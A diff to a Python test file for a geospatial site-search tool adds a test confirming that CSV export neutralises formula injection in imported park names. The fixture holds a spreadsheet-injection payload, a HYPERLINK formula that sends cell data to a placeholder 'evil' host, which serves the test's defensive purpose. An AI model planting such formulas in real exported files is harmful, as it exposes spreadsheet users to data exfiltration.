@@ -1,7 +1,9 @@
-"""``tbgeo search``: JSON fields, GeoJSON, files written, exit codes 0 / 1 (refused) / 2 (bad input)."""
+"""``tbgeo search``: JSON fields, GeoJSON, files written (safe CSV), exit codes 0 / 1 (refused) / 2."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import geopandas as gpd
@@ -181,3 +183,26 @@ def test_a3_sheet_with_many_candidates_keeps_the_model_on_the_sheet(capsys, tmp_
                    "Luật Đất đai 2024, Điều 122"):
         assert needle in text, needle
     assert ys and min(ys) > 0  # PDF y runs up from the bottom edge
+
+
+@pytest.mark.parametrize("lang", ["vi", "en"])
+def test_search_csv_neutralises_names_from_imported_layers(lang: str) -> None:
+    """The site search's CSV: a park name from an imported layer (the candidate's zone, the worst
+    finding) starting a formula gets its "'"; numbers stay numbers."""
+    from types import SimpleNamespace
+
+    from tbgeo.i18n import t
+    from tbgeo.search.run import SearchResult
+
+    zone = '=HYPERLINK("http://evil/?"&A1,"KCN Tiền Hải")'
+    row = {
+        t("search.col.rank", lang): 1, t("search.col.score", lang): 0.812, t("search.col.area", lang): 50.0,
+        t("search.col.luc", lang): 0.0, t("search.col.luk", lang): -0.0, t("search.col.districts", lang): "Tiền Hải",
+        t("search.col.zone", lang): zone, t("search.col.gas", lang): None,
+        t("search.col.verdict", lang): "OK", t("search.col.worst", lang): "@SUM(A1:A9)",
+    }  # fmt: skip
+    text = SearchResult.to_csv(SimpleNamespace(table=lambda _lang: [row]), lang)  # type: ignore[arg-type]
+    header, cells = list(csv.reader(io.StringIO(text)))
+    assert header[6] == t("search.col.zone", lang)
+    assert cells[6] == "'" + zone and cells[9] == "'@SUM(A1:A9)"
+    assert cells[:3] == ["1", "0.812", "50.0"] and cells[4] == "-0.0" and cells[7] == ""
